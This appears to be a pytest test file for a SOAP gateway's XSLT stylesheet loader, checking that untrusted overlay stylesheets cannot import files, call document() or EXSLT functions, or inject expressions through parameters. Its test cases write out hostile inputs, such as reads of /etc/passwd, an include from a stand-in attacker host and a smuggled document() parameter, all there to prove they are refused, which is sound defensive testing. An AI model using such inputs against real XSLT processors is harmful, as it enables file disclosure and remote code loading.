"""Stylesheets that reach for what they must not have, and overlays."""

import pytest
from lxml import etree

from gateway.core.codec.soap_service import Service
from gateway.core.codec.soap_sheets import TO_JSON, TO_SOAP, Part, SheetProblems, load_sheets
from gateway.core.errors import MappingError
from tests.support.soap import CS, ROOT, sheet

XSL = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
INSTALLED = {
    path.name: Part(path.name, f"xslt/{path.name}", path.read_bytes())
    for path in (ROOT / "xslt").glob("*.xsl")
}


def problems(text: str, name: str = "envelope.xsl") -> list[str]:
    part = Part(name, f"mine/{name}", text.encode())
    with pytest.raises(SheetProblems) as found:
        load_sheets(INSTALLED, ({name: part},), {}, 1 << 20)
    return [str(problem) for problem in found.value.problems]


def overlay(content: str, attributes: str = "") -> str:
    """A stylesheet; content begins in its second line."""
    return f'<xsl:stylesheet version="1.0" {XSL} {attributes}>\n{content}</xsl:stylesheet>'


def test_the_installed_ones_compile():
    sheets = load_sheets(INSTALLED, (), {}, 1 << 20)
    assert set(sheets) == {(s, d) for s in Service for d in (TO_SOAP, TO_JSON)}


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        ('<xsl:import href="file:///etc/passwd"/>', "xsl:import is not allowed"),
        ('<xsl:include href="http://attacker.example/x.xsl"/>', "xsl:include is not allowed"),
        (
            '<xsl:template name="x"><xsl:value-of select="document(\'/x\')"/></xsl:template>',
            "the function document() is not allowed",
        ),
        (
            '<xsl:template name="x"><a b="{document (1)}"/></xsl:template>',
            "the function document() is not allowed",
        ),
        (
            '<xsl:key name="k" match="a" use="document(\'x\')"/>',
            "the function document() is not allowed",
        ),
        (
            '<xsl:template name="x" xmlns:d="http://exslt.org/dynamic">'
            "<xsl:value-of select=\"d:evaluate('1')\"/></xsl:template>",
            "the function d:evaluate() is not allowed",
        ),
        (
            '<xsl:template name="x" xmlns:r="http://exslt.org/common" '
            'xsl:extension-element-prefixes="r"><r:document href="/tmp/x"/></xsl:template>',
            "extension elements are not allowed",
        ),
        ('<xsl:template name="x"><xsl:bogus/></xsl:template>', "xsl:bogus is no instruction"),
        ('<xsl:result-document href="x"/>', "xsl:result-document has no meaning at this place"),
        ('<data xmlns="urn:x"/>', "data has no meaning at this place"),
    ],
)
def test_what_a_stylesheet_must_not_have(content, problem):
    found = problems(overlay(content))
    assert any(line.startswith(f"mine/envelope.xsl:2:1: {problem}") for line in found) or any(
        line.startswith("mine/envelope.xsl:2:") and problem in line for line in found
    )


def test_extensions_declared_at_the_top_are_refused():
    text = overlay("", 'xmlns:e="http://exslt.org/common" extension-element-prefixes="e"')
    assert problems(text) == ["mine/envelope.xsl:1:1: extension elements are not allowed"]


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        (f"<!DOCTYPE x [<!ENTITY e 'v'>]>{overlay('')}", "a stylesheet has no document type"),
        ("<xsl:stylesheet", "mine/envelope.xsl:1:"),
        ("<html/>", "not a stylesheet of XSLT 1.0"),
        (f'<xsl:stylesheet version="2.0" {XSL}/>', "not a stylesheet of XSLT 1.0"),
        (overlay("\n" * 10_000), "more than 10000 lines"),
    ],
)
def test_what_is_no_stylesheet(text, problem):
    assert problem in problems(text)[0]


def test_a_name_that_no_stylesheet_has():
    assert "no stylesheet has this name" in problems(overlay(""), "enevlope.xsl")[0]


def test_errors_of_the_compiler_name_the_overlay_and_its_line():
    content = '\n<xsl:template name="identity">\n<xsl:value-of select="a[["/></xsl:template>'
    found = problems(overlay(content))
    assert found
    assert all(line.startswith("mine/envelope.xsl:4:1: ") for line in found)


def test_every_mistake_is_told():
    content = '<xsl:import href="a"/>\n<xsl:include href="b"/>\n'
    content += '<xsl:template name="x"><xsl:no/></xsl:template>'
    assert [line.split(":")[1] for line in problems(overlay(content))] == ["2", "3", "4"]


def run(content: str, element: str = "<message/>", most: int = 1 << 20) -> etree._Element:
    part = sheet("envelope.xsl", f'<xsl:template match="/message">{content}</xsl:template>')
    sheets = load_sheets(INSTALLED, ({part.name: part},), {}, most)
    return sheets[CS, TO_SOAP].to_tree(etree.fromstring(element), {})


def test_an_endless_recursion_ends():
    content = '<xsl:call-template name="loop"/></xsl:template><xsl:template name="loop">'
    content += '<xsl:call-template name="loop"/>'
    with pytest.raises(MappingError) as failed:
        run(content)
    assert str(failed.value) == (
        "envelope.xsl:1:1: A potential infinite template recursion was detected."
    )


def test_a_runtime_error_names_its_place():
    with pytest.raises(MappingError, match=r"envelope\.xsl:1:1: Undefined namespace prefix"):
        run('<xsl:value-of select="q:nothing"/>')


def test_what_ends_a_run_on_purpose_is_told():
    with pytest.raises(MappingError, match=r"envelope\.xsl:1:1: enough"):
        run('<xsl:message terminate="yes">enough</xsl:message>')


def test_nothing_is_made():
    with pytest.raises(MappingError, match="makes no document"):
        run("")


def test_nothing_can_be_read_even_if_a_function_slips_through(tmp_path):
    # What is refused by name is shut off in the compiled sheet as well.
    secret = tmp_path / "secret.xml"
    secret.write_text("<secret/>")
    text = overlay(
        f'<xsl:template match="/"><a><xsl:copy-of select="document(\'{secret.as_uri()}\')"/></a>'
        "</xsl:template>"
    )
    compiled = etree.XSLT(
        etree.fromstring(text), regexp=False, access_control=etree.XSLTAccessControl.DENY_ALL
    )
    with pytest.raises(etree.XSLTApplyError):
        compiled(etree.fromstring("<a/>"))


def test_output_is_bounded():
    part = sheet("json.xsl", '<xsl:template match="/*">0123456789</xsl:template>')
    sheets = load_sheets(INSTALLED, ({part.name: part},), {}, 5)
    with pytest.raises(MappingError, match="more than 5 bytes"):
        sheets[CS, TO_JSON].to_text(etree.fromstring("<a/>"))


@pytest.mark.parametrize("name", sorted(INSTALLED))
def test_no_sheet_looks_at_every_sibling_of_every_element(name):
    """libxslt stops at the first sibling only where the position is the last thing asked."""
    assert b"[1][" not in INSTALLED[name].text


def test_a_later_overlay_wins():
    def told(text: str) -> dict[str, Part]:
        content = f'<xsl:template match="/message"><{text}/></xsl:template>'
        return {"envelope.xsl": sheet("envelope.xsl", content)}

    sheets = load_sheets(INSTALLED, (told("one"), told("two")), {}, 1 << 20)
    assert sheets[CS, TO_SOAP].to_tree(etree.fromstring("<message/>"), {}).tag == "two"


def test_a_prefix_cannot_mean_two_things():
    text = overlay("", 'xmlns:cs="urn:other"')
    assert (
        "the prefix cs stands for another namespace"
        in problems(text, "central-system-to-json.xsl")[0]
    )


def test_a_parameter_that_no_stylesheet_declares():
    with pytest.raises(SheetProblems) as found:
        load_sheets(INSTALLED, (), {"colour": "red", "station": "CP1"}, 1 << 20)
    first, second = map(str, found.value.problems)
    assert first.startswith("resources.xslt_parameters: no stylesheet has a parameter 'colour'")
    assert "'station'" in second, "each message sets it anew"


def test_parameters_are_strings_and_never_expressions():
    part = sheet(
        "envelope.xsl",
        '<xsl:param name="told"/><xsl:template match="/message"><a b="{$told}"/></xsl:template>',
    )
    text = "document('/etc/passwd') or \"x\""
    sheets = load_sheets(INSTALLED, ({part.name: part},), {"told": text}, 1 << 20)
    assert sheets[CS, TO_SOAP].to_tree(etree.fromstring("<message/>"), {}).get("b") == text


def test_a_missing_stylesheet():
    files = {name: part for name, part in INSTALLED.items() if name != "json.xsl"}
    with pytest.raises(SheetProblems, match=r"the stylesheet json\.xsl is missing"):
        load_sheets(files, (), {}, 1 << 20)


def test_more_overlays_than_lines_can_tell_apart():
    part = sheet("json.xsl", "")
    with pytest.raises(SheetProblems, match="more than 4 overlays"):
        load_sheets(INSTALLED, ({part.name: part},) * 5, {}, 1 << 20)
